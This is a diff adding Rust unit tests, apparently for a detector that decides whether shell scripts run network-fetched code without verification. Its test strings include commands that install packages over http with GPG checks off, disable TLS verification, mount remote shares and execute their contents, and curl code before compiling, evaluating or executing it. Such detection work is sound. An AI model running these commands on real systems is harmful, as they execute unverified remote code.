@@ -290,3 +290,76 @@ fn an_answer_that_code_executes() {
         assert!(!uses.contains(&(HOST_DATA.to_owned(), Use::Executed)), "{script}");
     }
 }
+
+#[test]
+fn a_package_that_is_named_by_its_address_is_not_checked() {
+    for script in [
+        "yum install -y http://rpms.example.com/x.rpm; exec x",
+        "dnf install -y http://rpms.example.com/x.rpm; exec x",
+        "microdnf install -y http://rpms.example.com/x.rpm; exec x",
+        "dnf reinstall -y http://rpms.example.com/x.rpm; exec x",
+        "zypper --no-gpg-checks install -y http://rpms.example.com/x.rpm; exec x",
+        "dnf --setopt=localpkg_gpgcheck=0 install -y http://rpms.example.com/x.rpm; exec x",
+    ] {
+        assert!(executes(script), "{script}");
+    }
+    for script in [
+        "dnf install -y https://rpms.example.com/x.rpm; exec x",
+        "dnf install -y postgresql; exec x",
+        "dnf --setopt=localpkg_gpgcheck=1 install -y http://rpms.example.com/x.rpm; exec x",
+        "echo localpkg_gpgcheck=1 >> /etc/dnf/dnf.conf; dnf install -y http://rpms.example.com/x.rpm; exec x",
+        "yum-config-manager --add-repo http://rpms.example.com/x.repo; exec x",
+        "dnf config-manager --add-repo http://rpms.example.com/x.repo; dnf install -y x; exec x",
+        "yum install -y http://10.1.2.3/x.rpm; exec x",
+        "zypper install -y postgresql; exec x",
+    ] {
+        assert!(!executes(script), "{script}");
+    }
+}
+
+#[test]
+fn a_check_is_off_by_a_property_or_a_variable_of_what_is_started_later() {
+    for script in [
+        "mvn -Dmaven.wagon.http.ssl.insecure=true package && java -jar target/a.jar",
+        "mvn -q -Dmaven.wagon.http.ssl.allowall=true spring-boot:run",
+        "export NODE_TLS_REJECT_UNAUTHORIZED=0; node -e 'fetch(\"https://x.example.com/a\").then(r=>r.text()).then(eval)'",
+        "yarn config set strict-ssl false; yarn; yarn start",
+        "sshfs -o StrictHostKeyChecking=no u@x.example.com:/ /mnt; exec /mnt/run",
+        "mount -t nfs x.example.com:/e /mnt; exec /mnt/run",
+        "mount -t 9p share /mnt; exec /mnt/run",
+        "mount -t cifs //x.example.com/e /mnt; exec /mnt/run",
+    ] {
+        assert!(executes(script), "{script}");
+    }
+    for script in [
+        "mvn -q package && java -jar target/a.jar",
+        "mvn -Dmaven.wagon.http.ssl.insecure=false package && java -jar target/a.jar",
+        "export NODE_TLS_REJECT_UNAUTHORIZED=1; node -e 'fetch(\"https://x.example.com/a\").then(r=>r.text()).then(eval)'",
+        "yarn; yarn start",
+        "sshfs u@x.example.com:/ /mnt; exec /mnt/run",
+        "mount -t nfs 10.1.2.3:/e /mnt; exec /mnt/run",
+        "mount -t tmpfs none /mnt; exec app",
+        "mount -t nfs x.example.com:/e /mnt; exec app --data /mnt",
+    ] {
+        assert!(!executes(script), "{script}");
+    }
+}
+
+#[test]
+fn what_others_read_or_compile_is_executed_where_the_host_sends_it() {
+    for script in [
+        "curl -s http://x.example.com/x.sh -o /custom-cont-init.d/x.sh; exec /sbin/my_init",
+        "curl -s http://x.example.com/x.c > x.c; gcc x.c -o x; ./x",
+        "curl -s http://x.example.com/justfile > justfile; just run",
+        "curl -s http://x.example.com/x.dll > x.dll; dotnet x.dll",
+        "curl -s http://x.example.com/h.cfg > h.cfg; exec haproxy -f h.cfg",
+    ] {
+        assert!(executes(script), "{script}");
+    }
+    for script in [
+        "curl -s http://x.example.com/h.yml > /app.yml; exec app --config /app.yml",
+        "curl -s http://x.example.com/p.pem > /etc/haproxy/certs/p.pem; exec haproxy -f /etc/haproxy",
+    ] {
+        assert!(!executes(script), "{script}");
+    }
+}
